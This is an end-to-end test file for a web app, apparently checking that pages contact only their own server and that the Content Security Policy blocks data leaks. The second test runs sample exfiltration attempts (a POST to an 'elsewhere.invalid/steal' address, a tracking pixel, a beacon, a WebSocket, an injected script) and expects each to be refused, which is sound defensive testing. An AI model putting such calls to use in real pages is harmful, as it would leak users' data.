import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, inject, test } from "vitest";
import { startBrowser } from "../browser.ts";
import { ListPage } from "../pages/list-page.ts";
import { ProfilePage } from "../pages/profile-page.ts";
import { type RecordingProxy, startRecordingProxy } from "../pages/recording-proxy.ts";
import { KEEPS_FILES, Visit } from "../pages/visit.ts";

let browser: Browser;
let proxy: RecordingProxy;
beforeAll(async () => {
  browser = await startBrowser();
  proxy = await startRecordingProxy();
});
afterAll(async () => {
  await browser.close();
  await proxy.close();
});

test("a whole journey asks its own address for files, and sends nothing anywhere", async () => {
  // Without the mark the browser would go round the proxy for addresses of this machine.
  const visit = await Visit.start(browser, {
    ...KEEPS_FILES,
    proxy: { server: proxy.address, bypass: "<-loopback>" },
  });
  const list = new ListPage(visit);
  const { page } = visit;
  const sockets: string[] = [];
  page.on("websocket", (socket) => sockets.push(socket.url()));
  await new ProfilePage(visit).fillThree();
  await visit.open("/list");
  await list.rows.first().waitFor();
  await list.download("JSON");
  const id = (await list.ids())[0] ?? "";
  await visit.open(`/program/${id}`);
  await page.getByRole("heading", { name: "Facts" }).waitFor();
  await visit.open("/chances");
  await visit.open("/chances/specialties");
  await visit.open("/season/visa");
  await page
    .getByRole("heading", { name: /concern you/ })
    .first()
    .waitFor();
  await visit.open("/how");
  await page.waitForTimeout(500);

  const own = inject("webAddress");
  expect(sockets).toEqual([]);
  expect(proxy.seen.length).toBeGreaterThan(10);
  expect(proxy.seen.some(({ address }) => address.endsWith(".gz"))).toBe(true);
  for (const { method, address, body } of proxy.seen) {
    expect(method).toBe("GET");
    expect(address.startsWith(own)).toBe(true);
    expect(body).toBe("");
    expect(new URL(address).search).toBe("");
    expect(address).not.toContain("231");
  }
  await visit.end();
});

test("the page could not send anything elsewhere if it tried", async () => {
  const visit = await Visit.start(browser, {
    ...KEEPS_FILES,
    proxy: { server: proxy.address, bypass: "<-loopback>" },
  });
  await visit.open("/");
  const before = proxy.seen.length;
  const outcome = await visit.page.evaluate(async () => {
    const tried = await fetch("http://elsewhere.invalid/steal", { method: "POST", body: "answers" }).then(
      () => "sent",
      () => "refused",
    );
    const image = new Image();
    const shown = new Promise((resolve) => {
      image.onload = () => resolve("loaded");
      image.onerror = () => resolve("refused");
    });
    image.src = "http://elsewhere.invalid/pixel.png";
    const beacon = navigator.sendBeacon("http://elsewhere.invalid/beacon", "answers");
    let socket = "opened";
    try {
      const attempt = new WebSocket("ws://elsewhere.invalid/");
      socket = await new Promise((resolve) => {
        attempt.onopen = () => resolve("opened");
        attempt.onerror = () => resolve("refused");
      });
    } catch {
      socket = "refused";
    }
    const script = document.createElement("script");
    script.append("window.injected = true");
    document.head.append(script);
    return { tried, shown: await shown, beacon, socket, injected: "injected" in window };
  });
  await visit.page.waitForTimeout(300);
  expect(outcome).toMatchObject({ tried: "refused", shown: "refused", socket: "refused", injected: false });
  const later = proxy.seen.slice(before).filter(({ address }) => address.includes("elsewhere"));
  expect(later).toEqual([]);
  expect(visit.errors.some((words) => /Content Security Policy/i.test(words))).toBe(true);
  await visit.context.close();
});
